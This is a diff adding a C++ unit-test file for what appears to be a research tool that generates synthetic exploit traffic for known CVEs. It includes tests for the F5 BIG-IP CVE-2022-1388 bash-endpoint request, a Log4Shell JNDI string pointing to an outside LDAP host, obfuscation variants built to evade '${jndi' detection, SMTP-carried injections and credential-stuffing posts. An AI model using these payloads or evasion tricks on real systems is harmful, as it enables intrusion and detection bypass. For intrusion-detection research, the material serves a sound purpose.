@@ -1,0 +1,142 @@
+#include "traffic/payload.h"
+
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <cmath>
+#include <set>
+
+#include "net/http.h"
+#include "traffic/exploit_scanner.h"
+#include "traffic/obfuscation.h"
+#include "util/strings.h"
+
+namespace cvewb::traffic {
+namespace {
+
+TEST(ExploitPayload, RendersSpecTokens) {
+  util::Rng rng(1);
+  for (const auto& rec : data::appendix_e()) {
+    const ids::ExploitSpec spec = ids::spec_for(rec);
+    const std::string payload = render_exploit_payload(spec, rng);
+    ASSERT_FALSE(payload.empty()) << rec.id;
+    if (rec.protocol != data::Protocol::kHttp) {
+      EXPECT_EQ(payload, spec.raw_payload);
+    } else {
+      EXPECT_TRUE(net::looks_like_http(payload)) << rec.id;
+    }
+  }
+}
+
+TEST(ExploitPayload, HttpRendersParseBack) {
+  util::Rng rng(2);
+  const auto* rec = data::find_cve("CVE-2022-1388");
+  const auto payload = render_exploit_payload(ids::spec_for(*rec), rng);
+  const auto parsed = net::parse_payload(payload);
+  ASSERT_TRUE(parsed.http.has_value());
+  EXPECT_EQ(parsed.http->method, "POST");
+  EXPECT_EQ(parsed.http->uri, "/mgmt/tm/util/bash");
+  EXPECT_TRUE(parsed.http->header("X-F5-Auth-Token").has_value());
+  EXPECT_NE(parsed.http->body.find("utilCmdArgs"), std::string::npos);
+}
+
+TEST(Obfuscation, PercentEncodeRoundTripsThroughDecode) {
+  const std::string raw = "${jndi:ldap://203.0.113.5:1389/a b}";
+  EXPECT_EQ(util::percent_decode(percent_encode(raw)), raw);
+}
+
+TEST(Obfuscation, EscapeJndiVariantHidesLiteral) {
+  util::Rng rng(3);
+  for (const auto& variant : data::log4shell_variants()) {
+    const std::string injection = log4shell_injection(variant, rng);
+    if (variant.adaptation == "Escape sequence for jndi") {
+      EXPECT_EQ(util::ifind(injection, "${jndi"), std::string_view::npos) << variant.sid;
+      EXPECT_NE(util::ifind(injection, "${::-"), std::string_view::npos) << variant.sid;
+    }
+    if (variant.adaptation == "Escape sequence for $") {
+      EXPECT_EQ(injection.find("${"), std::string::npos) << variant.sid;
+      EXPECT_NE(util::ifind(injection, "%7b"), std::string_view::npos) << variant.sid;
+    }
+  }
+}
+
+TEST(Obfuscation, SmtpPayloadIsNotHttp) {
+  util::Rng rng(4);
+  const auto& variants = data::log4shell_variants();
+  const auto smtp = std::find_if(variants.begin(), variants.end(), [](const auto& v) {
+    return v.context == data::InjectionContext::kSmtp;
+  });
+  ASSERT_NE(smtp, variants.end());
+  const std::string payload = log4shell_payload(*smtp, rng);
+  EXPECT_FALSE(net::looks_like_http(payload));
+  EXPECT_NE(payload.find("RCPT TO"), std::string::npos);
+  EXPECT_NE(util::ifind(payload, "${jndi:"), std::string_view::npos);
+}
+
+TEST(VariantCounts, SumToTotalWithFloorOfOne) {
+  for (int total : {15, 100, 6254}) {
+    const auto counts = log4shell_variant_counts(total);
+    ASSERT_EQ(counts.size(), data::log4shell_variants().size());
+    int sum = 0;
+    for (int c : counts) {
+      EXPECT_GE(c, 1);
+      sum += c;
+    }
+    EXPECT_EQ(sum, total);
+  }
+}
+
+TEST(VariantTimes, FirstMatchesTable6Instant) {
+  util::Rng rng(5);
+  const auto* rec = data::find_cve("CVE-2021-44228");
+  for (const auto& variant : data::log4shell_variants()) {
+    const auto times = log4shell_variant_times(variant, 20, rng);
+    ASSERT_EQ(times.size(), 20u);
+    const auto expected = rec->published + variant.group_d_minus_p + variant.a_minus_d;
+    EXPECT_EQ(times.front(), expected) << variant.sid;
+    for (std::size_t i = 1; i < times.size(); ++i) EXPECT_GE(times[i], times[i - 1]);
+  }
+}
+
+TEST(EventTimes, FirstEventIsAppendixAttackInstant) {
+  util::Rng rng(6);
+  for (const auto& rec : data::appendix_e()) {
+    const auto times = exploit_event_times(rec, TimingModel{}, rng);
+    if (!rec.first_attack()) {
+      EXPECT_TRUE(times.empty()) << rec.id;
+      continue;
+    }
+    ASSERT_FALSE(times.empty()) << rec.id;
+    // Onsets that predate the collection window are clamped to its start.
+    EXPECT_EQ(times.front(), std::max(*rec.first_attack(), data::study_begin())) << rec.id;
+    EXPECT_LE(times.back(), data::study_end()) << rec.id;
+  }
+}
+
+TEST(EventTimes, CountMatchesScaledEvents) {
+  util::Rng rng(7);
+  const auto* rec = data::find_cve("CVE-2021-36260");
+  EXPECT_EQ(exploit_event_times(*rec, TimingModel{}, rng).size(),
+            static_cast<std::size_t>(rec->events));
+  EXPECT_EQ(exploit_event_times(*rec, TimingModel{}, rng, 0.01).size(),
+            static_cast<std::size_t>(std::lround(rec->events * 0.01)));
+}
+
+TEST(BackgroundPayloads, Variety) {
+  util::Rng rng(8);
+  std::set<std::string> kinds;
+  for (int i = 0; i < 200; ++i) kinds.insert(background_payload(rng).substr(0, 4));
+  EXPECT_GE(kinds.size(), 4u);
+}
+
+TEST(CredentialStuffing, AlwaysHitsAuthEndpoint) {
+  util::Rng rng(9);
+  for (int i = 0; i < 50; ++i) {
+    const auto payload = credential_stuffing_payload(rng);
+    EXPECT_NE(payload.find("POST /api/v1/auth"), std::string::npos);
+    EXPECT_NE(payload.find("username="), std::string::npos);
+  }
+}
+
+}  // namespace
+}  // namespace cvewb::traffic
